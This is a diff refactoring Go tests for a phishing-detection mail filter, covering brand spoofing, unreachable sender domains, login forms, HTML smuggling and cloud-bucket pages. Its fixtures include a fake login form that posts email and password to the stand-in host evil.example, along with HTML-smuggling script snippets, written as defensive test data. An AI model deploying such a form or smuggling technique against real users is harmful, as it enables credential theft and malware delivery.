@@ -572,10 +572,7 @@ func TestDefaultRules(t *testing.T) {
 // PST_FROM_BRAND_SPOOF unless the address is the brand's (its subdomains too);
 // names that only contain the word, in another sense, do not.
 func TestDefaultBrandSpoof(t *testing.T) {
-	s, problems := Load(DefaultPath)
-	if len(problems) > 0 {
-		t.Fatal(problems)
-	}
+	s := defaultSet(t)
 	for _, tc := range []struct {
 		from string
 		hit  bool
@@ -607,20 +604,33 @@ func TestDefaultBrandSpoof(t *testing.T) {
 	} {
 		t.Run(tc.from, func(t *testing.T) {
 			m := msgOf(t, "From: "+tc.from+"\nTo: user@example.com\nSubject: notice\nMessage-ID: <1@x.example>\n\nHello.\n")
-			if got := slices.Contains(hitNames(t, s, m), "PST_FROM_BRAND_SPOOF"); got != tc.hit {
-				t.Errorf("PST_FROM_BRAND_SPOOF %v, want %v", got, tc.hit)
-			}
+			wantHit(t, s, m, "PST_FROM_BRAND_SPOOF", tc.hit)
 		})
+	}
+}
+
+// defaultSet is the default rules, which load without a problem.
+func defaultSet(t *testing.T) *Set {
+	t.Helper()
+	s, problems := Load(DefaultPath)
+	if len(problems) > 0 {
+		t.Fatal(problems)
+	}
+	return s
+}
+
+// wantHit fails t unless rule's hitting m is want.
+func wantHit(t *testing.T, s *Set, m *filter.Message, rule string, want bool) {
+	t.Helper()
+	if got := slices.Contains(hitNames(t, s, m), rule); got != want {
+		t.Errorf("%s %v, want %v", rule, got, want)
 	}
 }
 
 // PST_FROM_NO_DOMAIN: a From whose domain no reply can reach, in the forms
 // phishing writes it, against the domains mail is sent from.
 func TestDefaultFromNoDomain(t *testing.T) {
-	s, problems := Load(DefaultPath)
-	if len(problems) > 0 {
-		t.Fatal(problems)
-	}
+	s := defaultSet(t)
 	for _, tc := range []struct {
 		from string
 		hit  bool
@@ -659,9 +669,7 @@ func TestDefaultFromNoDomain(t *testing.T) {
 	} {
 		t.Run(tc.from, func(t *testing.T) {
 			m := msgOf(t, "From: "+tc.from+"\nTo: user@example.com\nSubject: notice\nMessage-ID: <1@x.example>\n\nHello.\n")
-			if got := slices.Contains(hitNames(t, s, m), "PST_FROM_NO_DOMAIN"); got != tc.hit {
-				t.Errorf("PST_FROM_NO_DOMAIN %v, want %v", got, tc.hit)
-			}
+			wantHit(t, s, m, "PST_FROM_NO_DOMAIN", tc.hit)
 		})
 	}
 }
@@ -669,10 +677,7 @@ func TestDefaultFromNoDomain(t *testing.T) {
 // PST_PASSWORD_FIELD: a login page in the message's HTML or in an attached web
 // page, whatever type the attachment declares; not a word about passwords.
 func TestDefaultPasswordField(t *testing.T) {
-	s, problems := Load(DefaultPath)
-	if len(problems) > 0 {
-		t.Fatal(problems)
-	}
+	s := defaultSet(t)
 	page := `<html><body><form action="https://evil.example/p.php" method="post">Email <input name="e" value="you@example.com">` +
 		`Password <INPUT name="p" TYPE='Password' required></form></body></html>`
 	b64 := base64.StdEncoding.EncodeToString([]byte(page))
@@ -689,9 +694,7 @@ func TestDefaultPasswordField(t *testing.T) {
 		{"another field", head + "Content-Type: text/html\n\n<form><input type=\"text\" name=\"password_hint\"></form>\n", false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			if got := slices.Contains(hitNames(t, s, msgOf(t, tc.raw)), "PST_PASSWORD_FIELD"); got != tc.hit {
-				t.Errorf("PST_PASSWORD_FIELD %v, want %v", got, tc.hit)
-			}
+			wantHit(t, s, msgOf(t, tc.raw), "PST_PASSWORD_FIELD", tc.hit)
 		})
 	}
 }
@@ -699,10 +702,7 @@ func TestDefaultPasswordField(t *testing.T) {
 // PST_HTML_SMUGGLING: an attached page whose script builds a file and saves
 // it; a page that only makes a Blob, or only links one, is not.
 func TestDefaultHTMLSmuggling(t *testing.T) {
-	s, problems := Load(DefaultPath)
-	if len(problems) > 0 {
-		t.Fatal(problems)
-	}
+	s := defaultSet(t)
 	attached := func(script string) string {
 		page := "<html><body><script>" + script + "</script></body></html>"
 		return "From: a@example.com\nTo: user@example.com\nSubject: invoice\nMessage-ID: <1@x.example>\nMIME-Version: 1.0\n" +
@@ -720,9 +720,7 @@ func TestDefaultHTMLSmuggling(t *testing.T) {
 		{"a link alone", `img.src = URL.createObjectURL(file);`, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			if got := slices.Contains(hitNames(t, s, msgOf(t, attached(tc.script))), "PST_HTML_SMUGGLING"); got != tc.hit {
-				t.Errorf("PST_HTML_SMUGGLING %v, want %v", got, tc.hit)
-			}
+			wantHit(t, s, msgOf(t, attached(tc.script)), "PST_HTML_SMUGGLING", tc.hit)
 		})
 	}
 }
@@ -730,10 +728,7 @@ func TestDefaultHTMLSmuggling(t *testing.T) {
 // PST_URI_CLOUD_PAGE: a link to a web page in a storage bucket, not to an
 // image there nor to a page on a site.
 func TestDefaultCloudPage(t *testing.T) {
-	s, problems := Load(DefaultPath)
-	if len(problems) > 0 {
-		t.Fatal(problems)
-	}
+	s := defaultSet(t)
 	for _, tc := range []struct {
 		link string
 		hit  bool
@@ -753,9 +748,7 @@ func TestDefaultCloudPage(t *testing.T) {
 	} {
 		t.Run(tc.link, func(t *testing.T) {
 			m := msgOf(t, "From: a@example.com\nTo: user@example.com\nSubject: notice\nMessage-ID: <1@x.example>\nContent-Type: text/html\n\n<a href=\""+tc.link+"\">open</a>\n")
-			if got := slices.Contains(hitNames(t, s, m), "PST_URI_CLOUD_PAGE"); got != tc.hit {
-				t.Errorf("PST_URI_CLOUD_PAGE %v, want %v", got, tc.hit)
-			}
+			wantHit(t, s, m, "PST_URI_CLOUD_PAGE", tc.hit)
 		})
 	}
 }
